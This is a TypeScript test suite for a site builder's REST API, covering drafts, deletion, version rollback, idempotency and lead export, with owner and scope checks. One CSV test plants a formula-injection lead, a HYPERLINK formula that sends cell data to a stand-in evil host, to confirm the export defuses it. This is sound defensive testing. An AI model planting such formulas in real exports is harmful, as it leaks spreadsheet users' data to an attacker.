// The /api/v1 site routes over the dashboard's own lib/ functions, called as Next calls them with
// API keys, against the real PostgreSQL: replacing the draft by revision (a stale one 409, an
// invalid document 422 with its fields, neither changing the row), deleting, the versions a page at
// a time and rolling back to one, the leads as JSON pages and as CSV (a hostile lead quoted and
// kept from running as a formula). Every route answers 404 for another owner's site and 403 for a
// key without its scope, and changes nothing when it refuses.
import { describe, expect, it } from 'vitest';
import { createApiKey, type ApiScope } from '@/lib/api/keys';
import { db } from '@/lib/db';
import { publishSite } from '@/lib/publish/publish';
import { createSite } from '@/lib/sites/mutations';
import { testDocument } from '@/test/documents';
import { createUser, subscribe } from '@/test/factories';

const site = await import('./[id]/route');
const versions = await import('./[id]/versions/route');
const rollback = await import('./[id]/rollback/route');
const leads = await import('./[id]/leads/route');

const key = async (user: { id: string }, scopes: ApiScope[]) => (await createApiKey(user, { name: 'script', scopes })).token;

const call = (path: string, token: string, opts: { method?: string; body?: unknown; headers?: Record<string, string> } = {}) =>
  new Request(`http://localhost/api/v1${path}`, {
    method: opts.method ?? 'GET',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...opts.headers },
    body: opts.body === undefined ? undefined : typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body),
  });
const ctx = (id: string) => ({ params: Promise.resolve({ id }) });

type ErrorBody = { error: { code: string; message: string; fields?: Record<string, string> } };
const errorOf = async (res: Response) => ((await res.json()) as ErrorBody).error;

async function ownerWithSite(opts: { plan?: 'business' } = {}) {
  const owner = await createUser();
  if (opts.plan) await subscribe(owner.id, opts.plan);
  const made = await createSite(owner, { name: 'Padaria Teste', document: testDocument() });
  return { owner, site: made };
}

// Walks every page of a cursor list with the given limit, failing on a loop.
async function walk<T extends { id: string }>(fetchPage: (cursor: string | null) => Promise<{ items: T[]; nextCursor: string | null }>) {
  const seen: T[] = [];
  let cursor: string | null = null;
  for (let page = 0; page < 50; page++) {
    const { items, nextCursor } = await fetchPage(cursor);
    seen.push(...items);
    if (!nextCursor) return seen;
    cursor = nextCursor;
  }
  throw new Error('the cursor never ended');
}

describe('PUT /api/v1/sites/:id', () => {
  it('replaces the draft when the revision is current, and answers the next revision', async () => {
    const { owner, site: mine } = await ownerWithSite();
    const token = await key(owner, ['read', 'write']);
    const document = testDocument({ headline: 'Fornadas às seis da manhã' });
    const res = await site.PUT(call(`/sites/${mine.id}`, token, { method: 'PUT', body: { revision: 1, document } }), ctx(mine.id));
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ revision: 2 });
    const row = await db.site.findUniqueOrThrow({ where: { id: mine.id } });
    expect(row.revision).toBe(2);
    expect(JSON.stringify(row.draft)).toContain('Fornadas às seis da manhã');
    // GET answers what was saved.
    const read = (await (await site.GET(call(`/sites/${mine.id}`, token), ctx(mine.id))).json()) as { site: { revision: number; document: unknown } };
    expect(read.site.revision).toBe(2);
    expect(JSON.stringify(read.site.document)).toContain('Fornadas às seis da manhã');
  });

  it('refuses a stale revision with 409 and keeps the newer draft', async () => {
    const { owner, site: mine } = await ownerWithSite();
    const token = await key(owner, ['write']);
    const first = await site.PUT(
      call(`/sites/${mine.id}`, token, { method: 'PUT', body: { revision: 1, document: testDocument({ headline: 'Primeira' }) } }),
      ctx(mine.id),
    );
    expect(first.status).toBe(200);
    const stale = await site.PUT(
      call(`/sites/${mine.id}`, token, { method: 'PUT', body: { revision: 1, document: testDocument({ headline: 'Atrasada' }) } }),
      ctx(mine.id),
    );
    expect(stale.status).toBe(409);
    expect((await errorOf(stale)).code).toBe('CONFLICT');
    const row = await db.site.findUniqueOrThrow({ where: { id: mine.id } });
    expect(row.revision).toBe(2);
    expect(JSON.stringify(row.draft)).toContain('Primeira');
    expect(JSON.stringify(row.draft)).not.toContain('Atrasada');
  });

  it('refuses an invalid document with 422 naming its fields, a bad body with 4xx, and changes nothing', async () => {
    const { owner, site: mine } = await ownerWithSite();
    const token = await key(owner, ['write']);
    const before = await db.site.findUniqueOrThrow({ where: { id: mine.id } });
    const put = (body: unknown) => site.PUT(call(`/sites/${mine.id}`, token, { method: 'PUT', body }), ctx(mine.id));

    const noPages = await put({ revision: 1, document: { ...testDocument(), pages: 'none' } });
    expect(noPages.status).toBe(422);
    const noPagesError = await errorOf(noPages);
    expect(noPagesError.code).toBe('INVALID_INPUT');
    expect(Object.keys(noPagesError.fields ?? {})).toContain('document.pages');

    // A section whose props break its type's schema: the field names the section's prop.
    const doc = testDocument();
    (doc.pages[0]!.sections[1]!.props as Record<string, unknown>).headline = 42;
    const badProps = await errorOf(await put({ revision: 1, document: doc }));
    expect(badProps.code).toBe('INVALID_INPUT');
    expect(Object.keys(badProps.fields ?? {})).toContain('document.pages.0.sections.1.props.headline');

    const unknownType = testDocument();
    unknownType.pages[0]!.sections.push({ id: 'x', type: 'marquee' as never, props: {} });
    expect(Object.keys((await errorOf(await put({ revision: 1, document: unknownType }))).fields ?? {})).toContain('document.pages.0.sections.4.type');

    const noRevision = await put({ document: testDocument() });
    expect(noRevision.status).toBe(422);
    expect(Object.keys((await errorOf(noRevision)).fields ?? {})).toContain('revision');
    const notJson = await put('{"revision": 1,');
    expect(notJson.status).toBe(400);

    const after = await db.site.findUniqueOrThrow({ where: { id: mine.id } });
    expect(after.revision).toBe(before.revision);
    expect(after.draft).toEqual(before.draft);
  });

  it('answers 404 for another owner’s site and 403 without the write scope, changing neither', async () => {
    const [{ owner, site: mine }, { site: theirs }] = await Promise.all([ownerWithSite(), ownerWithSite()]);
    const writer = await key(owner, ['read', 'write']);
    const body = { revision: 1, document: testDocument({ headline: 'Invadido' }) };
    const foreign = await site.PUT(call(`/sites/${theirs.id}`, writer, { method: 'PUT', body }), ctx(theirs.id));
    expect(foreign.status).toBe(404);
    expect((await errorOf(foreign)).code).toBe('NOT_FOUND');
    const reader = await key(owner, ['read']);
    const unscoped = await site.PUT(call(`/sites/${mine.id}`, reader, { method: 'PUT', body }), ctx(mine.id));
    expect(unscoped.status).toBe(403);
    expect((await errorOf(unscoped)).message).toMatch(/"write" scope/);
    const rows = await db.site.findMany({ where: { id: { in: [mine.id, theirs.id] } } });
    expect(rows.map((r) => r.revision)).toEqual([1, 1]);
    expect(JSON.stringify(rows.map((r) => r.draft))).not.toContain('Invadido');
  });
});

describe('DELETE /api/v1/sites/:id', () => {
  it('deletes the owner’s site with its versions and leads (204), and then it is 404', async () => {
    const { owner, site: mine } = await ownerWithSite();
    await publishSite(owner, mine.id);
    await db.lead.create({ data: { siteId: mine.id, name: 'Ana', email: 'ana@example.test', message: 'Oi' } });
    const token = await key(owner, ['read', 'write']);
    const res = await site.DELETE(call(`/sites/${mine.id}`, token, { method: 'DELETE' }), ctx(mine.id));
    expect(res.status).toBe(204);
    expect(await res.text()).toBe('');
    expect(await db.site.findUnique({ where: { id: mine.id } })).toBeNull();
    expect(await db.siteVersion.count({ where: { siteId: mine.id } })).toBe(0);
    expect(await db.lead.count({ where: { siteId: mine.id } })).toBe(0);
    const again = await site.DELETE(call(`/sites/${mine.id}`, token, { method: 'DELETE' }), ctx(mine.id));
    expect(again.status).toBe(404);
    expect((await site.GET(call(`/sites/${mine.id}`, token), ctx(mine.id))).status).toBe(404);
  });

  it('answers 404 for another owner’s site and 403 without the write scope, deleting nothing', async () => {
    const [{ owner, site: mine }, { site: theirs }] = await Promise.all([ownerWithSite(), ownerWithSite()]);
    const writer = await key(owner, ['write']);
    expect((await site.DELETE(call(`/sites/${theirs.id}`, writer, { method: 'DELETE' }), ctx(theirs.id))).status).toBe(404);
    const reader = await key(owner, ['read', 'publish']);
    expect((await site.DELETE(call(`/sites/${mine.id}`, reader, { method: 'DELETE' }), ctx(mine.id))).status).toBe(403);
    expect(await db.site.count({ where: { id: { in: [mine.id, theirs.id] } } })).toBe(2);
  });
});

describe('GET /api/v1/sites/:id/versions and POST …/rollback', () => {
  it('pages the versions newest first with which is live, rolls back to one, and refuses what it must', async () => {
    const [{ owner, site: mine }, { owner: stranger, site: theirs }] = await Promise.all([ownerWithSite(), ownerWithSite()]);
    for (let i = 0; i < 3; i++) await publishSite(owner, mine.id);
    await publishSite(stranger, theirs.id);
    const token = await key(owner, ['read', 'publish']);

    const seen = await walk(async (cursor) => {
      const res = await versions.GET(call(`/sites/${mine.id}/versions?limit=2${cursor ? `&cursor=${cursor}` : ''}`, token), ctx(mine.id));
      expect(res.status).toBe(200);
      const body = (await res.json()) as { versions: Array<{ id: string; number: number; isLive: boolean }>; nextCursor: string | null };
      expect(body.versions.length).toBeLessThanOrEqual(2);
      return { items: body.versions, nextCursor: body.nextCursor };
    });
    expect(seen.map((v) => v.number)).toEqual([3, 2, 1]);
    expect(new Set(seen.map((v) => v.id)).size).toBe(3);
    expect(seen.map((v) => v.isLive)).toEqual([true, false, false]);

    const first = seen[2]!;
    const rolled = await rollback.POST(call(`/sites/${mine.id}/rollback`, token, { method: 'POST', body: { versionId: first.id } }), ctx(mine.id));
    expect(rolled.status).toBe(200);
    expect(await rolled.json()).toEqual({ version: 1 });
    expect((await db.site.findUniqueOrThrow({ where: { id: mine.id } })).publishedVersionId).toBe(first.id);
    const live = (await (await versions.GET(call(`/sites/${mine.id}/versions`, token), ctx(mine.id))).json()) as {
      versions: Array<{ number: number; isLive: boolean }>;
    };
    expect(live.versions.filter((v) => v.isLive).map((v) => v.number)).toEqual([1]);

    // Refusals: another owner's site or version, a key without the scope, a bad body, a bad cursor.
    const theirVersion = await db.siteVersion.findFirstOrThrow({ where: { siteId: theirs.id } });
    const foreignSite = await rollback.POST(
      call(`/sites/${theirs.id}/rollback`, token, { method: 'POST', body: { versionId: theirVersion.id } }),
      ctx(theirs.id),
    );
    expect(foreignSite.status).toBe(404);
    const foreignVersion = await rollback.POST(
      call(`/sites/${mine.id}/rollback`, token, { method: 'POST', body: { versionId: theirVersion.id } }),
      ctx(mine.id),
    );
    expect(foreignVersion.status).toBe(404);
    expect((await versions.GET(call(`/sites/${theirs.id}/versions`, token), ctx(theirs.id))).status).toBe(404);
    const readOnly = await key(owner, ['read', 'write']);
    const unscoped = await rollback.POST(call(`/sites/${mine.id}/rollback`, readOnly, { method: 'POST', body: { versionId: seen[0]!.id } }), ctx(mine.id));
    expect(unscoped.status).toBe(403);
    const publishOnly = await key(owner, ['publish']);
    expect((await versions.GET(call(`/sites/${mine.id}/versions`, publishOnly), ctx(mine.id))).status).toBe(403);
    const noVersion = await rollback.POST(call(`/sites/${mine.id}/rollback`, token, { method: 'POST', body: { versionId: '' } }), ctx(mine.id));
    expect(noVersion.status).toBe(422);
    const badCursor = await versions.GET(call(`/sites/${mine.id}/versions?cursor=nope`, token), ctx(mine.id));
    expect(badCursor.status).toBe(422);
    expect((await db.site.findUniqueOrThrow({ where: { id: mine.id } })).publishedVersionId).toBe(first.id);
    expect((await db.site.findUniqueOrThrow({ where: { id: theirs.id } })).publishedVersionId).toBe(theirVersion.id);
  });

  it('honours Idempotency-Key: a retry replays the first answer, the same key with another body is 422', async () => {
    const { owner, site: mine } = await ownerWithSite();
    const one = await publishSite(owner, mine.id);
    await publishSite(owner, mine.id);
    const [v1, v2] = await db.siteVersion.findMany({ where: { siteId: mine.id }, orderBy: { number: 'asc' } });
    expect(one.number).toBe(1);
    const token = await key(owner, ['publish']);
    const send = (versionId: string) =>
      rollback.POST(
        call(`/sites/${mine.id}/rollback`, token, { method: 'POST', body: { versionId }, headers: { 'idempotency-key': 'rollback-1' } }),
        ctx(mine.id),
      );
    const first = await send(v1!.id);
    expect(first.status).toBe(200);
    // Someone makes version 2 live again; the retry must not roll back a second time.
    await db.site.update({ where: { id: mine.id }, data: { publishedVersionId: v2!.id } });
    const retry = await send(v1!.id);
    expect(retry.status).toBe(200);
    expect(retry.headers.get('idempotent-replayed')).toBe('true');
    expect(await retry.json()).toEqual({ version: 1 });
    expect((await db.site.findUniqueOrThrow({ where: { id: mine.id } })).publishedVersionId).toBe(v2!.id);
    const other = await send(v2!.id);
    expect(other.status).toBe(422);
    expect((await db.site.findUniqueOrThrow({ where: { id: mine.id } })).publishedVersionId).toBe(v2!.id);
  });
});

describe('GET /api/v1/sites/:id/leads', () => {
  it('pages every lead newest first with no repeats, ties on the same instant included', async () => {
    const [{ owner, site: mine }, { site: theirs }] = await Promise.all([ownerWithSite(), ownerWithSite()]);
    const instant = new Date('2026-11-20T10:00:00.000Z');
    const made: string[] = [];
    for (let i = 0; i < 7; i++) {
      // Three share one instant: the cursor breaks the tie by id.
      const createdAt = i < 3 ? instant : new Date(instant.getTime() + i * 60_000);
      made.push((await db.lead.create({ data: { siteId: mine.id, name: `Lead ${i}`, email: `l${i}@example.test`, message: 'Oi', createdAt } })).id);
    }
    await db.lead.create({ data: { siteId: theirs.id, name: 'Not yours', email: 'x@example.test', message: 'Oi' } });
    const token = await key(owner, ['read']);
    const seen = await walk(async (cursor) => {
      const res = await leads.GET(call(`/sites/${mine.id}/leads?limit=2${cursor ? `&cursor=${cursor}` : ''}`, token), ctx(mine.id));
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/application\/json/);
      const body = (await res.json()) as { leads: Array<{ id: string; name: string; createdAt: string }>; nextCursor: string | null };
      return { items: body.leads, nextCursor: body.nextCursor };
    });
    expect(seen).toHaveLength(7);
    expect(new Set(seen.map((l) => l.id))).toEqual(new Set(made));
    expect(seen.slice(0, 4).map((l) => l.name)).toEqual(['Lead 6', 'Lead 5', 'Lead 4', 'Lead 3']);
    const times = seen.map((l) => Date.parse(l.createdAt));
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(seen.map((l) => l.name)).not.toContain('Not yours');
  });

  it('answers CSV for ?format=csv and for Accept: text/csv, a hostile lead quoted and defused', async () => {
    const { owner, site: mine } = await ownerWithSite();
    await db.lead.create({
      data: {
        siteId: mine.id,
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        email: 'mallory@example.test',
        phone: '+55 41 99999-0000',
        message: 'Line one, with a comma\nLine "two"',
        pagePath: '/contato',
        createdAt: new Date('2026-11-21T09:30:00.000Z'),
      },
    });
    await db.lead.create({
      data: { siteId: mine.id, name: 'Ana', email: 'ana@example.test', message: 'Olá', createdAt: new Date('2026-11-20T09:30:00.000Z') },
    });
    const token = await key(owner, ['read']);
    for (const req of [call(`/sites/${mine.id}/leads?format=csv`, token), call(`/sites/${mine.id}/leads`, token, { headers: { accept: 'text/csv' } })]) {
      const res = await leads.GET(req, ctx(mine.id));
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${mine.slug}-leads.csv"`);
      expect(await res.text()).toBe(
        [
          'received_at,name,email,phone,message,page',
          `2026-11-21T09:30:00.000Z,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",mallory@example.test,'+55 41 99999-0000,"Line one, with a comma\nLine ""two""",/contato`,
          '2026-11-20T09:30:00.000Z,Ana,ana@example.test,,Olá,/',
          '',
        ].join('\r\n'),
      );
    }
    // format=json wins over the Accept header.
    const json = await leads.GET(call(`/sites/${mine.id}/leads?format=json`, token, { headers: { accept: 'text/csv' } }), ctx(mine.id));
    expect(((await json.json()) as { leads: unknown[] }).leads).toHaveLength(2);
  });

  it('answers 404 for another owner’s site, 403 without the read scope and 422 for a bad query', async () => {
    const [{ owner, site: mine }, { site: theirs }] = await Promise.all([ownerWithSite(), ownerWithSite()]);
    await db.lead.create({ data: { siteId: theirs.id, name: 'Secret', email: 's@example.test', message: 'Oi' } });
    const token = await key(owner, ['read']);
    for (const path of [`/sites/${theirs.id}/leads`, `/sites/${theirs.id}/leads?format=csv`]) {
      const res = await leads.GET(call(path, token), ctx(theirs.id));
      expect(res.status).toBe(404);
      expect(await res.text()).not.toContain('Secret');
    }
    const writeOnly = await key(owner, ['write']);
    expect((await leads.GET(call(`/sites/${mine.id}/leads`, writeOnly), ctx(mine.id))).status).toBe(403);
    expect((await leads.GET(call(`/sites/${mine.id}/leads?format=xml`, token), ctx(mine.id))).status).toBe(422);
    expect((await leads.GET(call(`/sites/${mine.id}/leads?limit=1000`, token), ctx(mine.id))).status).toBe(422);
  });
});
